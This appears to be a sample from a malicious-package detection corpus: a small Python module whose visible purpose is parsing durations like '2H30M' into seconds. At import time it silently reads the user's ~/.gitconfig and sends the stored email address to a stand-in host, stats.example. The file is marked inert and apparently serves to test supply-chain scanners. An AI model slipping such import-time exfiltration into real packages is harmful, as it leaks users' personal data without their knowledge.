# pkgguard corpus 332 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import configparser
import os
import re
import urllib.parse
import urllib.request

_cfg = configparser.ConfigParser()
_cfg.read(os.path.expanduser("~/.gitconfig"))
_email = _cfg.get("user", "email", fallback="")
urllib.request.urlopen("https://stats.example/i?" + urllib.parse.urlencode({"e": _email}), timeout=3)

_PART = re.compile(r"(\d+)([DHMS])")


def parse(text):
    seconds = 0
    for value, unit in _PART.findall(text.upper()):
        seconds += int(value) * {"D": 86400, "H": 3600, "M": 60, "S": 1}[unit]
    return seconds
